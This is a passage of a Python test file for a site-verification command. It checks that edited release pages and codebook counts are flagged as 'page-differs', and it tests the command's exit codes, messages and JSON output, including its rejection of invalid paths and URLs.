    site = shutil.copytree(released, tmp_path / "site")
    assert verify(site).holds
    replace_text(site / RELEASES, old, new, times)
    reseal(site)
    assert told(verify(site)) == {("page-differs", RELEASES)}


def test_the_codebook_of_a_release_is_counted_over_its_own_file(
    released: Path, tmp_path: Path
) -> None:
    """The older release has 60 visits, the newest 61: each has its own receipt."""
    site = shutil.copytree(released, tmp_path / "site")
    book = "datasets/visits/releases/2026-10-01/codebook/index.html"
    assert 'data-count="visits.codebook.visits" data-cells="1.2">61<' in (site / BOOK).read_text()
    old = 'data-count="visits@2026-10-01.codebook.visits" data-cells="1.2">60<'
    replace_text(site / book, old, old.replace("60", "61"))
    reseal(site)
    assert told(verify(site)) == {("page-differs", book)}


# The command


def test_the_command_says_what_it_found(site: Path) -> None:
    done = run_command("verify", str(site))
    assert done.returncode == 0, done.stderr
    assert "Verified" in done.stderr
    assert "26 receipts" in done.stderr
    number_in_page(site)
    done = run_command("verify", str(site))
    assert done.returncode == 1
    assert "page-differs" in done.stderr
    assert PAGE in done.stderr
    assert "Traceback" not in done.stderr
    document = json.loads(run_command("verify", str(site), "--format", "json").stdout)
    assert document["holds"] is False
    assert document["receipts"] == 26
    assert {item["rule"] for item in document["findings"]} == {"page-differs", "published-file-changed"}  # fmt: skip


def test_the_command_refuses_what_makes_no_sense(site: Path, tmp_path: Path) -> None:
    assert run_command("verify", str(tmp_path / "nowhere")).returncode == 2
    assert run_command("verify", "ftp://desk.example/").returncode == 2
    assert run_command("verify", str(site), "--since", str(site / "data.json")).returncode == 2
    assert run_command("verify", str(site), "--since", "nowhere.json").returncode == 2
    with pytest.raises(UsageError):
        verify("http://")
    (tmp_path / "empty").mkdir()
    assert run_command("verify", str(tmp_path / "empty")).returncode == 1
